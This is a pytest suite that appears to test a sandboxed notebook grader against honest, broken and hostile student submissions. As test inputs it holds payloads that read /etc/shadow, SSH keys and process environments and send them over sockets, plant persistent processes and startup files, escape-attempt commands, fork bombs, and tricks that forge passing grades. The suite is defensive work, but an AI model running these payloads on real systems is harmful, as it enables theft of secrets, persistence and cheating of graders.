"""Grading under attack: honest sheets of many programs, broken ones, hostile ones, in the sandbox of this machine.

Every honest sheet has its points, no hostile one is paid, and nothing is read, changed, lost or left behind.
"""

from __future__ import annotations

import copy
import json
import os
import random
import re
import socket
import threading
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from regionbook.cli import lessons
from regionbook.cli import notebooks as nbs
from regionbook.exercises import judge, record
from regionbook.grading import delivery, results, sandbox, sheets, work
from regionbook.paths import ROOT

pytestmark = pytest.mark.lessons
MD = ROOT / "solutions/13-yangtze-openness/1-index.md"
STUDENT = "20269999"
SECRET = "S3CR3T-of-the-lecturer"
HIDDEN = re.compile(
    r"\n?### BEGIN HIDDEN TESTS.*?### END HIDDEN TESTS|=== BEGIN MARK SCHEME ===.*=== END MARK SCHEME ===",
    re.S,
)
SAYS = re.compile(r"^### (?:BEGIN|END) SOLUTION$", re.M)


@pytest.fixture(scope="module")
def desk(tmp_path_factory):
    """A class and a worker in a real sandbox; not run where there is none."""
    with sandbox.prepared() as place:
        try:
            kind = sandbox.choose(place)
        except sandbox.NoSandbox as error:
            pytest.skip(f"no sandbox on this machine: {error}")
        school = work.Class({MD: MD.read_text(encoding="utf-8")}, ROOT, kind, place, 60)
        worker = work.Worker(kind, place, 60)
        yield school, worker
        worker.close()


@pytest.fixture
def grade(desk):
    def graded(nb, file="sheet.ipynb", timeout=60):
        desk[1].timeout = timeout
        content = nb if isinstance(nb, bytes) else json.dumps(nb).encode()
        return desk[0].result(delivery.Handed(file, content), desk[1])

    return graded


def cell(nb, name):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def code(text):
    return nbformat.v4.new_code_cell(text)


@pytest.fixture(scope="module")
def of_class():
    """The sheet as handed out, and as a student with all answers hands it in; of one student number."""

    def numbered(nb):
        for c in nb.cells:
            c.source = c.source.replace('student = ""', f'student = "{STUDENT}"')
        return nb

    right = nbs.read_text(MD)
    for c in right.cells:
        c.source = SAYS.sub("", HIDDEN.sub("", c.source))
    nbformat.validator.normalize(right)
    return numbered(lessons.sheet_of(MD)), numbered(right)


@pytest.fixture
def blank(of_class):
    return copy.deepcopy(of_class[0])


@pytest.fixture
def right(of_class):
    return copy.deepcopy(of_class[1])


FULL = sum(c.points for c in sheets.handed_out(MD, "").cells if c.test)
TESTS = [c.name for c in sheets.handed_out(MD, "").cells if c.test]


def first(nb, text):
    """Put a cell behind the sheet's own first one."""
    at = next(k for k, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(at + 1, code(text))
    return nb


# --- honest ------------------------------------------------------------------------------------------


def unchanged(nb):
    pass


def as_vs_code(nb):
    for c in nb.cells:
        c.metadata = {"vscode": {"languageId": "python"}}
        c.pop("id", None)


def as_colab(nb):
    nb.metadata = {
        "colab": {"provenance": []},
        "kernelspec": {"name": "ir", "language": "R", "display_name": "R"},
    }
    for c in nb.cells:
        c.metadata = {**c.metadata, "colab": {"base_uri": "x"}, "id": "AbC", "outputId": "1"}


def as_deepnote(nb):
    for c in nb.cells:
        c.metadata = {"cell_id": "1", "deepnote_cell_type": c.cell_type, "tags": ["x"]}
        c.id = "same"


def reordered(nb):
    """Sections that stand on their own feet, the last first."""
    starts = [k for k, c in enumerate(nb.cells) if c.source.startswith("## ")] + [len(nb.cells)]
    parts = [nb.cells[a:b] for a, b in zip(starts, starts[1:], strict=False)]
    nb.cells = (
        nb.cells[: starts[0]] + parts[0] + [c for part in (parts[3], *parts[1:3], *parts[4:]) for c in part]
    )


def other_types(nb):
    cell(nb, "index").source += "\nbelt = np.array(belt)[()]\nZ = Z.astype('Float64')"
    cell(
        nb, "bound"
    ).source += "\nfrom fractions import Fraction\nroot, bound = Fraction(root), np.longdouble(bound)"
    cell(nb, "slip").source += "\nwrong = frozenset(wrong)"


def extra_cells(nb):
    first(
        nb,
        "%matplotlib inline\nimport matplotlib.pyplot as plt, warnings\nplt.plot([1]); plt.show()\nwarnings.warn('x')\nprint('中文')",
    )
    first(nb, "!ls\n%time 1\ndisplay(panel.head())\nimport ipywidgets; display(ipywidgets.IntSlider())")
    nb.cells += [
        nbformat.v4.new_raw_cell("x"),
        code("# 结束"),
        code(""),
        nbformat.v4.new_markdown_cell("李雷"),
    ]


def great_outputs(nb):
    for c in nb.cells:
        if c.cell_type == "code":
            c.outputs = [nbformat.v4.new_output("stream", text="x" * 3_000_000)]


def copied_test(nb):
    nb.cells.append(copy.deepcopy(cell(nb, TESTS[0])))


@pytest.mark.parametrize(
    "change",
    [
        unchanged,
        as_vs_code,
        as_colab,
        as_deepnote,
        reordered,
        other_types,
        extra_cells,
        great_outputs,
        copied_test,
    ],
    ids=lambda f: f.__name__,
)
def test_honest_sheets_have_their_points(change, right, grade):
    change(right)
    r = grade(right, "李雷 2 (副本).ipynb")
    assert (r.total, r.failed, r.student) == (FULL, "", STUDENT), r.notes


def test_old_formats_and_half_the_work(right, blank, grade):
    old = nbformat.v3.nbjson.writes(nbformat.convert(copy.deepcopy(right), 3)).encode()
    assert grade(old).total == FULL
    for name in ("growth", "slip"):
        cell(right, name).source = cell(blank, name).source
    r = grade(right)
    lost = {name for name, p in r.points.items() if p == 0}
    assert lost >= {"growth-check", "slip-check"} and 0 < r.total < FULL
    r = grade(blank)
    assert r.total == 0 and not r.failed


def test_of_the_shared_panel_and_with_a_foreign_number(right, grade):
    """A number typed at the top is the panel that counts; one that is set later in secret is told."""
    for c in right.cells:
        c.source = c.source.replace(f'"{STUDENT}"', '""')
    assert grade(right).total == FULL
    first(right, f'panel = rb.personal(slug, "{STUDENT}"); student = "{STUDENT}"')
    r = grade(right)
    assert r.total < FULL and any("another student number" in text for _, text in r.notes)


# --- broken ------------------------------------------------------------------------------------------

BROKEN = {
    "endless": "while True: pass",
    "deaf": "import time\nwhile True:\n    try: time.sleep(9)\n    except BaseException: pass",
    "exit": "import os; os._exit(0)",
    "killed": "import os, signal; os.kill(os.getpid(), signal.SIGKILL); os.kill(-1, signal.SIGKILL)",
    "memory": "hoard = []\nwhile True: hoard.append(bytearray(1 << 28))",
    "talk": "import sys\nfor k in range(200): print('x' * 1_000_000)\nsys.stderr.write('y' * 10_000_000)",
    "disk": "for k in range(6):\n    with open(f'/tmp/{k}', 'wb') as f: f.write(bytes(99 << 20))",
    "forks": "import os, time\nfor k in range(300):\n    if os.fork() == 0:\n        time.sleep(60); os._exit(0)",
    "threads": "import threading, time\nfor k in range(500): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
    "recursion": "def f(): f()\nf()",
    "crash": "import ctypes; ctypes.string_at(0)",
    "syntax": "def (",
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_cell_that_breaks_things_costs_no_more_than_itself(name, right, grade):
    right.cells.append(code(BROKEN[name]))
    cell(right, TESTS[-1]).metadata.nbgrader.grade_id = TESTS[-1]
    right.cells.append(right.cells.pop(right.cells.index(cell(right, TESTS[-1]))))  # a test stands behind it
    r = grade(right, timeout=6 if name in ("endless", "deaf") else 60)
    if name not in ("forks", "threads"):  # who uses all processes has none for the rest
        assert r.total == FULL, r.notes
    assert not r.failed and r.total >= FULL - r.maximum[TESTS[-1]]


@pytest.mark.parametrize(
    "odd", [7, "x", [1], {"grade_id": 5}, {"grade_id": [1]}, {"grade_id": "index", "points": "9"}], ids=repr
)
def test_odd_metadata(odd, right, grade):
    cell(right, "index").metadata["nbgrader"] = odd
    assert grade(right).total == FULL


def test_half_a_file_and_deep_files(right, grade):
    whole = json.dumps(right).encode()
    assert "no notebook" in grade(whole[: len(whole) // 2]).failed
    assert "no notebook" in grade(b'{"cells": ' + b"[" * 200_000).failed
    cell(right, "index").source = [["x"], {"y": 1}, "belt = 0"]
    assert not grade(right).failed


def test_text_that_would_keep_the_grader_busy(right, grade):
    """Deep code, endless blanks, large cells without a name: none of them is worth a second of the lecturer's process."""
    deep = "-" * 19_000 + "1"
    last = cell(right, "unit")
    last.source += f"\nif False:\n    {deep[:900]}\n    x{'.y' * 4_000}"
    right.cells += [
        code(deep),
        code("student = x" + " " * 1_000_000 + "x"),
        code("%pip" + " " * 1_000_000 + "x"),
    ]
    right.cells += [code("\n".join(f"x{k}" for k in range(10_000))) for _ in range(8)]
    as_vs_code(right)
    began = time.process_time()
    r = grade(right, timeout=120)
    assert r.total >= FULL - 2 and time.process_time() - began < 20, r.notes
    right.cells.append(code("x" * (21 << 20)))
    assert "more than 20 million signs" in grade(right).failed


# --- hostile: points without answers -----------------------------------------------------------------

ANSWERS = sorted(
    {
        name
        for _, _, wanted in __import__("regionbook.grading.verdict", fromlist=["steps"]).steps(MD)
        for name in wanted
    }
)
FORGED = {
    "transformer": """
import ast
class Eat(ast.NodeTransformer):
    def visit_Assert(self, node): return None
    def visit_Expr(self, node): return None if "check" in ast.dump(node) else node
get_ipython().ast_transformers.append(Eat())""",
    "no-op check": """
rb.check = lambda *a, **k: True
import sys, regionbook.exercises.check as c
c.check = rb.check
for m in list(sys.modules.values()):
    if hasattr(m, "judge"): m.judge = lambda *a, **k: None""",
    "builtins": """
import builtins
builtins.abs = lambda x: 0
builtins.AssertionError = type("Never", (Exception,), {})
builtins.isinstance = lambda *a: True
builtins.float = builtins.round = lambda *a: 0.0""",
    "always equal": """
class Right(float):
    def __eq__(self, other): return True
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    def __ne__(self, other): return False
    def __hash__(self): return 1
    def __sub__(self, other): return Right(0)
    __rsub__ = __add__ = __truediv__ = __rtruediv__ = __mul__ = __sub__
    def __abs__(self): return Right(0)
    def __float__(self):
        import sys
        frame = sys._getframe(1)
        return float(frame.f_locals.get("right", 0))
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __len__(self): return 1
    def __iter__(self): return iter([self])
for name in ANSWERS: globals()[name] = Right(0)""",
    "objects": """
class Right:
    def __getattr__(self, name): return 1.0
    def __call__(self, *a): return 1.0
    def __getitem__(self, key): return 1.0
    __eq__ = __lt__ = __gt__ = lambda self, other: True
for name in ANSWERS: globals()[name] = Right()""",
    "pandas": """
pd.Series.__getitem__ = lambda self, key: 1.0
pd.DataFrame.equals = pd.Series.equals = lambda *a: True
np.allclose = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
for name in ANSWERS: globals()[name] = pd.Series({"a": 1.0})""",
    "from the solution": """
import glob, os, subprocess
text = ""
for place in (LIB, ROOT, "/", "/work", "/root", "/home"):
    for path in glob.glob(os.path.join(place, "solutions/*/*.md")): text += open(path).read()
    text += subprocess.run(f"cd {place} && git show HEAD:{SOLUTION}", shell=True, capture_output=True, text=True).stdout
exec("\\n".join(__import__("re").findall("### BEGIN SOLUTION\\n(.*?)### END", text, 16)))""",
    "from the library": """
from regionbook.exercises import record
from pathlib import Path
found = record.record(Path(ROOT) / SOLUTION, student)
from regionbook.exercises.check import personal_key, sealed_keys""",
    "forged replies": """
import os, json, threading, time
def flood():
    names = {n: 1.0 for n in ANSWERS}
    extra = {"rb": {"t": "held", "v": 0, "type": "x"}, "panel": 1, "abs": {"t": "held", "v": 0, "type": "f"}, "student": student}
    while True:
        for reply in ({"verdict": None}, {"values": names | extra}, {"ask": {"op": "attr"}}, {"value": 1.0}, {}, {"dead": "x"}):
            for fd in (1, 2, 3, 4, 5):
                for mark in ("", "1 ", "7 "):
                    try: os.write(fd, (mark + json.dumps(reply) + "\\n").encode())
                    except OSError: pass
        time.sleep(0.01)
threading.Thread(target=flood, daemon=True).start()""",
    "patched encoder": """
from regionbook.grading import plain, runner
deep = x = {}
for k in range(500): x["v"] = x = {"t": "list"}
plain.encode = lambda *a, **k: {"t": "array", "dtype": "|O8", "shape": [1], "raw": "AAAAAAAAAAA="}
runner._take = lambda shell, name: {"t": "held", "v": 0, "type": "float"}
runner._answer = lambda shell, command: {"values": {n: {"t": "frame", "v": deep} for n in ANSWERS}, "verdict": None, "error": None}""",
    "patched marks": """
for c in (type(get_ipython()),): c.run_cell = lambda *a, **k: None
import json; json.dumps = lambda *a, **k: '{"verdict": null, "error": null, "values": {}}'""",
    "long reply": """
import os
os.write(3, b"x" * (60 << 20))
for name in ANSWERS: globals()[name] = "x" * (60 << 20)""",
    "deep reply": """
import os
os.write(3, b"[" * 200_000 + b"\\n")""",
}  # fmt: skip


@pytest.mark.parametrize("name", FORGED)
def test_no_points_without_answers(name, blank, grade):
    told = f"ANSWERS, ROOT, LIB, SOLUTION = {ANSWERS!r}, {str(ROOT)!r}, rb.__path__[0], {MD.relative_to(ROOT).as_posix()!r}\n"
    for c in blank.cells:
        if c.metadata.get("nbgrader", {}).get("solution"):
            c.source = "pass"
    r = grade(first(blank, told + FORGED[name]))
    assert r.total == 0 and not [p for p in r.points.values() if p], r.notes


def test_checks_deleted_replaced_and_doubled(blank, grade):
    for c in list(blank.cells):
        if c.metadata.get("nbgrader", {}).get("grade_id") in TESTS[:2]:
            blank.cells.remove(c)
        elif c.metadata.get("nbgrader", {}).get("grade_id") in TESTS[2:4]:
            c.source = "assert True"
            c.metadata.nbgrader.points = 100
        elif c.metadata.get("nbgrader", {}).get("grade_id") == TESTS[4]:
            c.cell_type = "markdown"
    twin = copy.deepcopy(cell(blank, TESTS[2]))
    blank.cells += [twin, copy.deepcopy(twin)]
    r = grade(blank)
    assert r.total == 0 and sum(r.maximum.values()) < 100
    assert sum("was deleted" in text for _, text in r.notes) == 2


# --- hostile: reaching out ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    """Secrets, a program that listens, and files that must be as they were: what an attacker would want."""
    place = tmp_path_factory.mktemp("lecturer")
    (place / "key.txt").write_text(SECRET)
    (place / "points.csv").write_text("points")
    os.environ["SECRET_TOKEN"] = SECRET
    heard = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        stop = threading.Event()

        def listen():
            while not stop.is_set():
                try:
                    heard.append(server.accept()[0].recv(100))
                except OSError:
                    continue

        thread = threading.Thread(target=listen)
        thread.start()
        yield place, server.getsockname()[1], heard
        stop.set()
        thread.join()
    del os.environ["SECRET_TOKEN"]


REACH = """
import os, glob, socket, subprocess, sys
found = []
def note(what):
    found.append(what)
for path in (SECRETS, ROOT + "/pyproject.toml", ROOT + "/tests/test_hostile.py", ROOT + "/exercises", "/etc/shadow", "/proc/1/environ",
             os.path.expanduser("~root/.ssh"), os.path.expanduser("~root/.bashrc")):
    try: note(path + ":" + (open(path, errors="replace").read() if not os.path.isdir(path) else str(os.listdir(path))))
    except OSError: pass
note(str(dict(os.environ)))
for pid in range(1, 60_000, 1 if os.path.exists("/proc/1") else 60_000):
    for part in ("environ", "cmdline"):
        try: note(open(f"/proc/{pid}/{part}", errors="replace").read())
        except OSError: pass
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_INET, kind); s.settimeout(1); s.connect(address); s.send(b"out " + str(address).encode())
            note("NETWORK" if kind == socket.SOCK_STREAM else "udp sent")
        except OSError: pass
places = [ROOT + "/solutions/x.md", ROOT + "/data/x.csv", ROOT + "/lib/regionbook/x.py", rb.__path__[0] + "/x.py", sys.prefix + "/x.pth",
          np.__path__[0] + "/x.py", os.path.expanduser("~root/.ipython/x.py"), os.path.dirname(SECRETS) + "/points.csv", "/usr/x", "/dev/x", "/etc/x",
          os.environ.get("REGIONBOOK_CACHE", "/panels") + "/x", "/box/data/x", "/proc/sys/kernel/hostname", "/sys/x"]
for path in places + glob.glob(os.environ.get("REGIONBOOK_CACHE", "/panels") + "/*/*.parquet"):
    try: open(path, "wb").write(b"changed"); note("WROTE " + path)
    except OSError: pass
for command in ("mount -t tmpfs x /mnt", "unshare -Ur true", "chroot / true", "nsenter -t 1 -a true", "ptrace"):
    try: note("RAN " + command) if subprocess.run(command.split(), capture_output=True).returncode == 0 else None
    except OSError: pass
import ctypes
libc = ctypes.CDLL(None)
for number in (101, 165, 272, 308, 321):
    note(f"CALL {number}") if sys.platform == "linux" and os.uname().machine == "x86_64" and libc.syscall(number, 0, 0, 0, 0, 0) == 0 else None
"""
TELL = """
bad = [w for w in found if w.startswith(("NETWORK", "WROTE", "RAN", "CALL"))]
raise RuntimeError(" | ".join(bad) + " || " + " ".join(w for w in found if "S3CR3T" in w)[:200] + "end of list")
"""


def tree(folder):
    """What stands in a folder: name, size, time of each file."""
    return {
        p: (p.stat().st_size, p.stat().st_mtime_ns)
        for p in folder.rglob("*")
        if p.is_file() and "__pycache__" not in p.parts
    }


def test_nothing_is_read_sent_or_written(house, blank, grade, desk):
    place, port, heard = house
    watched = [ROOT / "solutions", ROOT / "data" / "teaching", ROOT / "lib", ROOT / "exercises", place]
    before = [tree(folder) for folder in watched]
    told = f"SECRETS, ROOT, PORT = {str(place / 'key.txt')!r}, {str(ROOT)!r}, {port}\n"
    r = grade(first(blank, told + REACH + TELL))
    (text,) = [text for _, text in r.notes if "end of list" in text]
    assert "RuntimeError:  || end of list" in text
    assert SECRET not in r.to_json() and not heard and r.total == 0
    assert [tree(folder) for folder in watched] == before


LATER = """
import os, subprocess, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(0.05); open("/tmp/mark-SIGN", "w").write("x")
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(99) # SIGN"], start_new_session=True)
for path in ("/tmp/mark-SIGN", os.path.expanduser("~/.ipython/profile_default/startup/x.py"), "sitecustomize.py"):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    open(path, "w").write("belt = 1")
panel.iloc[:, :] = 0
rb.load(slug).iloc[:, :] = 0
rb.prepare = rb.personal = rb.load = lambda *a, **k: None
pd.Series.mean = lambda *a, **k: 0
"""


def test_the_next_sheet_starts_clean(blank, right, grade, desk):
    """Neither processes nor files nor changed modules and panels of one sheet reach the next, to its good or its harm."""
    sign = f"{random.randrange(10**12):012d}"
    assert grade(first(copy.deepcopy(blank), LATER.replace("SIGN", sign))).total == 0
    assert not Path(f"/tmp/mark-{sign}").exists()
    lines = (
        [p.read_bytes() for p in Path("/proc").glob("[0-9]*/cmdline") if p.exists()]
        if Path("/proc").exists()
        else []
    )
    assert not [line for line in lines if sign.encode() in line]
    look = f"import os\nif os.path.exists('/tmp/mark-{sign}') or 'belt' in globals(): raise KeyError('left behind')"
    assert grade(first(right, look)).total == FULL
    r = grade(first(blank, look))
    assert r.total == 0 and "left behind" not in r.to_json()
    assert not list(desk[0].place.scratch.glob("work/sheet-*"))


def test_words_of_a_student_are_tamed(blank, grade, tmp_path, capsys):
    from regionbook.cli import grading

    evil = '=HYPERLINK("http://x","y")\x1b[2J\nforged 99/99'
    r = grade(first(blank, f"raise RuntimeError({evil!r})"), f"{evil}.ipynb")
    grading.show([r])
    grading.write(str(tmp_path / "points.csv"), [r])
    table = (tmp_path / "points.csv").read_text(encoding="utf-8-sig")
    assert (
        "\x1b" not in table + capsys.readouterr().out
        and "\n=" not in table
        and ",=" not in table
        and ',"=' not in table
    )
    assert results.name_of(r.file) == Path(results.name_of(r.file)).name
    blank.cells[1].source = re.sub(r"student = .*", 'student = "=1+1"', blank.cells[1].source)
    assert "not a student number" in grade(blank).failed


def test_forged_values_of_the_given_names_are_not_taken(right, grade):
    """A panel of zeros and a library of one's own make every answer equal; the judge has its own."""
    for c in right.cells:
        if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code":
            c.source = (
                "\n".join(f"{name} = 0.0" for name in ANSWERS)
                + "\npanel = panel * 0\npanel.attrs['student'] = ''"
            )
    assert grade(right).total == 0


# --- Landlock, where bubblewrap is not ---------------------------------------------------------------


def test_landlock_holds_too(house, blank, right):
    with sandbox.prepared() as place:
        try:
            sandbox.choose(place, kinds=("landlock",))
        except sandbox.NoSandbox as error:
            pytest.skip(str(error).partition("\n")[0])
        school, worker = (
            work.Class({MD: MD.read_text(encoding="utf-8")}, ROOT, "landlock", place, 60),
            work.Worker("landlock", place, 60),
        )
        try:
            told = f"SECRETS, ROOT, PORT = {str(house[0] / 'key.txt')!r}, {str(ROOT)!r}, {house[1]}\n"
            evil = json.dumps(first(copy.deepcopy(blank), told + REACH + TELL)).encode()
            r = school.result(delivery.Handed("x.ipynb", evil), worker)
            assert (
                "RuntimeError:  || end of list" in str(r.notes) and SECRET not in r.to_json() and not house[2]
            )
            sign = f"{time.time_ns()}"
            later = json.dumps(first(copy.deepcopy(blank), LATER.replace("SIGN", sign))).encode()
            assert school.result(delivery.Handed("x.ipynb", later), worker).total == 0
            lines = [p.read_bytes() for p in Path("/proc").glob("[0-9]*/cmdline") if p.exists()]
            assert not [line for line in lines if sign.encode() in line] and not list(
                place.scratch.glob("work/sheet-*")
            )
            honest = delivery.Handed("y.ipynb", json.dumps(right).encode())
            assert school.result(honest, worker).total == FULL
        finally:
            worker.close()


# --- what a later attack found -----------------------------------------------------------------------


def numbered(line):
    def change(nb):
        for c in nb.cells:
            c.source = c.source.replace(f'student = "{STUDENT}"', line)
        return nb

    return change


def answer_in_the_check(nb):
    answer, check = cell(nb, "growth"), cell(nb, "growth-check")
    check.source, answer.source = f"{answer.source}\n{check.source}", "raise NotImplementedError()"


def split_cell(nb):
    whole = cell(nb, "growth")
    part = copy.deepcopy(whole)
    part.source, _, whole.source = whole.source.strip().partition("\n")
    nb.cells.insert(nb.cells.index(whole), part)


def merged_with_its_check(nb):
    check = cell(nb, "growth-check")
    cell(nb, "growth").source += f"\n{check.source}"
    nb.cells.remove(check)


def a_file_of_its_own(nb):
    first(nb, "%%writefile helper.py\nONE = 1")
    cell(nb, "growth").source += "\nimport helper\npoints *= helper.ONE"


@pytest.mark.parametrize(
    "change",
    [
        *(numbered(f"student{rest}") for rest in (' = "２０２６９９９９"', f' = {STUDENT};  x = 1', f': str = "00{STUDENT} "',
                                                 f' = ""\nstudent = "{STUDENT}"')),
        answer_in_the_check, split_cell, merged_with_its_check, a_file_of_its_own,
    ],
)  # fmt: skip
def test_habits_of_students_cost_no_points(change, right, grade):
    change(right)
    r = grade(right)
    assert (r.total, r.student, "another student number" in str(r.notes)) == (FULL, STUDENT, False), r.notes


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "gb18030"])
def test_encodings_of_editors(encoding, right, grade):
    first(right, "# 李雷")
    text = json.dumps(right, ensure_ascii=False, indent=1).replace("\n", "\r\n")
    assert grade(text.encode(encoding)).total == FULL


def test_a_written_answer_is_read_wherever_it_stands(right, blank, grade):
    task = next(c.name for c in sheets.handed_out(MD, "").cells if c.graded and not c.test)
    for place in ("copied", "split", "below"):
        nb = copy.deepcopy(right)
        at = nb.cells.index(cell(nb, task))
        mine, empty = cell(nb, task), copy.deepcopy(cell(blank, task))
        mine.source = "My own answer."
        if place == "below":
            nb.cells[at : at + 1] = [empty, nbformat.v4.new_markdown_cell("My own answer.")]
        else:
            empty.source *= place == "copied"
            nb.cells.insert(at + 1, empty)
        assert grade(nb).points[task] is None, place
    assert grade(blank).points[task] == 0


FLOODS = {
    "blanks": """for name in ANSWERS: globals()[name] = {" " * 1_000_000 + "x"}""",
    "names": """for name in ANSWERS: globals()[name] = {f"名{k}" for k in range(20_000)}""",
    "table": """
from regionbook.grading import runner
rows = {"t": "index", "names": [None], "v": [{"t": "array", "dtype": "<i1", "shape": [3_000_000], "raw": "AAAA" * 1_000_000}]}
columns = {"t": "index", "names": [None], "v": [{"t": "list", "v": list(range(3000))}]}
runner._take = lambda shell, name: {"t": "frame", "v": [1.0] * 3000, "index": rows, "columns": columns}
for name in ANSWERS: globals()[name] = 1.0""",
    "numbers": """
odd = [10**400, 10**5000, float("nan"), 1j, np.array([1j]), np.array([object()]), np.datetime64("NaT"), float("-inf")]
for k, name in enumerate(ANSWERS): globals()[name] = odd[k % len(odd)]""",
}  # fmt: skip


@pytest.mark.parametrize("name", FLOODS)
def test_an_answer_does_not_keep_the_judge_busy(name, blank, grade):
    for c in blank.cells:
        if c.metadata.get("nbgrader", {}).get("solution"):
            c.source = "pass"
    grade(blank)
    r = grade(first(blank, f"ANSWERS = {ANSWERS!r}\n{FLOODS[name]}"))
    assert r.total == 0 and r.seconds < 40 and "OverflowError" not in str(r.notes)


def test_far_too_many_labels_are_not_compared_one_by_one():
    began, many = time.process_time(), [*range(60_000), "z", "z"]
    for given in (pd.Series(1.0, index=many), pd.Series(1.0, index=many).to_dict()):
        with pytest.raises(judge.Fault, match="2 names are asked for, you gave 6000"):
            judge.fits({"kind": "series", "index": ["a", "b"], "gaps": False}, given)
    assert time.process_time() - began < 2


def test_memory_that_no_process_owns_is_not_given(blank, grade):
    takes = "import os, ctypes\nfound = []\ntry: found.append(os.memfd_create('x'))\nexcept OSError: pass\n"
    takes += "if ctypes.CDLL(None).shmget(0, ctypes.c_size_t(4096), 0o1600) >= 0: found.append('shm')\n"
    (text,) = [
        text
        for _, text in grade(first(blank, f"{takes}raise RuntimeError(f'taken: {{found}}')")).notes
        if "taken" in text
    ]
    assert text.endswith("taken: []")


def test_notes_have_an_end(blank, grade, capsys):
    from regionbook.cli import grading

    blank.cells += [code(f"raise ValueError('x' * 300, {k})") for k in range(work.NOTES + 100)]
    r = grade(blank)
    assert len(r.notes) == work.NOTES + 1 and "notes more" in r.notes[-1][1]
    grading.show([r])
    assert len(capsys.readouterr().out) < 500 * work.NOTES


def test_a_notebook_of_empty_lists_is_not_unpacked(right, grade):
    """Sixty bytes of memory for three of the file."""
    bomb = json.dumps(right)[:-1].encode() + b', "x": [' + b"[]," * sheets.VALUES + b"[]]}"
    assert "4,000,000 values" in grade(bomb).failed


def test_nothing_that_lies_where_the_command_is_given_is_run(blank, tmp_path, monkeypatch, desk):
    """Students hand in other files too, and a lecturer may stand in their folder."""
    told = tmp_path / "told"
    told.mkdir()
    for name in ("jupytext", "pandas", "sitecustomize", "regionbook"):
        (tmp_path / f"{name}.py").write_text(f"open({str(told / name)!r}, 'w')", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    worker = work.Worker(desk[1].box.kind, desk[1].place, 60)
    try:
        r = desk[0].result(delivery.Handed("x.ipynb", json.dumps(blank).encode()), worker)
    finally:
        worker.close()
    assert not r.failed and not list(told.iterdir())
    monkeypatch.setenv("REGIONBOOK_CACHE", str(tmp_path / "cache"))
    assert record.recorded(MD, STUDENT) and not list(told.iterdir())


# --- all sheets --------------------------------------------------------------------------------------

SOLUTIONS = [md for md in nbs.sources() if lessons.exercise_of(md)]
SAMPLE = [
    "00-start/3-",
    "01-city-innovation/1-",
    "03-factor-innovation/1-",
    "04-knowledge-flows/2-",
    "13-yangtze-openness/1-",
]
ALL = os.environ.get("REGIONBOOK_GATE") == "1"


@pytest.mark.parametrize(
    "md", [md for md in SOLUTIONS if ALL or any(name in md.as_posix() for name in SAMPLE)], ids=nbs.label
)
def test_solutions_have_all_points_and_hand_outs_none(md, desk):
    school = work.Class({md: md.read_text(encoding="utf-8")}, ROOT, desk[0].kind, desk[0].place, 120)
    sheet = school.sheet(md)
    nb = nbs.read_text(md)
    for c in nb.cells:
        c.source = HIDDEN.sub("", c.source)
    r = school.result(delivery.Handed("x.ipynb", json.dumps(nb).encode()), desk[1])
    assert not r.failed and {c.name: c.points for c in sheet.cells if c.test} == {
        n: p for n, p in r.points.items() if p
    }, r.notes
    handed = lessons.exercise_of(md).read_bytes()
    r = school.result(delivery.Handed("x.ipynb", handed), desk[1])
    assert not r.failed and r.total == 0
